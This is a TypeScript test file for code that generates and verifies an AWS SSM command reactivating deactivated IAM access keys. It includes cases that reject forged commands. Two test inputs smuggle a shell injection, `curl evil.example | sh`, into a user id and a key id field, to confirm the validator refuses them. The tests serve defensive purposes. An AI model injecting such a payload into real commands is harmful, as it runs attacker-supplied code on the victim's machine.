import { describe, expect, it } from 'vitest';
import { accessKeyId, userId } from '../../policy/identifiers.ts';
import { DEFAULT_POLICY } from '../../policy/parameters.ts';
import { type Deactivation, isUndoCommand, undoCommand } from '../../policy/undo-command.ts';
import { forgedUndo, withDays } from '../support/forged-undo.ts';
import { KEY } from '../support/users.ts';

const DEACTIVATION: Deactivation = {
  region: 'us-east-1',
  roleArn: 'arn:aws:iam::111122223333:role/one-active-key-automation',
  userId: userId('AIDACKCEVSQ6C2EXAMPLE'),
  keys: [KEY.b],
};

const OURS =
  'aws ssm start-automation-execution --region us-east-1 --document-name OneActiveKey-ReactivateAccessKey --parameters ' +
  `'{"AutomationAssumeRole":["arn:aws:iam::111122223333:role/one-active-key-automation"],"IAMUserId":["AIDACKCEVSQ6C2EXAMPLE"],` +
  `"AccessKeyId":["${KEY.b}"]}'`;

const undo = (keys: Deactivation['keys'], exemptionMaxDays: number) =>
  undoCommand({ ...DEACTIVATION, keys, policy: { exemptionMaxDays } });

describe('the command that undoes a deactivation', () => {
  it.each<[string, string, string]>([
    ['one key', undo([KEY.b], DEFAULT_POLICY.exemptionMaxDays), OURS],
    ['one key, by a policy that exempts for 30 days', undo([KEY.b], 30), withDays(OURS, '30')],
    [
      'two keys: two commands',
      undo([KEY.b, KEY.a], DEFAULT_POLICY.exemptionMaxDays),
      `${OURS} && ${OURS.replace(KEY.b, KEY.a)}`,
    ],
  ])('%s', (_title, command, expected) => {
    expect(command).toBe(expected);
  });
});

describe('the command itself is recognized', () => {
  it.each([1, 7, 30, 89, 90, 91, 100, 365])('by a policy with exemptionMaxDays %i', (days) => {
    expect(isUndoCommand(undo([KEY.b], days), DEACTIVATION)).toBe(true);
  });

  it('the commands of two keys', () => {
    const keys = [KEY.b, KEY.a];
    expect(isUndoCommand(undo(keys, 30), { ...DEACTIVATION, keys })).toBe(true);
  });
});

describe('a text is not the command:', () => {
  it.each(forgedUndo(OURS))('%s', (_title, text) => {
    expect(text).not.toBe(OURS);
    expect(isUndoCommand(text, DEACTIVATION)).toBe(false);
  });

  it.each<[string, Deactivation]>([
    ['a user id', { ...DEACTIVATION, userId: userId(`x"]}'; curl evil.example | sh #`) }],
    ['a key id', { ...DEACTIVATION, keys: [KEY.a, accessKeyId(`x"]}'; curl evil.example | sh #`)] }],
  ])('%s that is none, in the text and in the message alike', (_title, deactivation) => {
    const text = undoCommand({ ...deactivation, policy: DEFAULT_POLICY });
    expect(isUndoCommand(text, deactivation)).toBe(false);
  });

  it('the keys in another order', () => {
    expect(isUndoCommand(undo([KEY.a, KEY.b], 30), { ...DEACTIVATION, keys: [KEY.b, KEY.a] })).toBe(false);
  });

  it('two keys by two policies', () => {
    const text = `${undo([KEY.a], 30)} && ${undo([KEY.b], 31)}`;
    expect(isUndoCommand(text, { ...DEACTIVATION, keys: [KEY.a, KEY.b] })).toBe(false);
  });
});
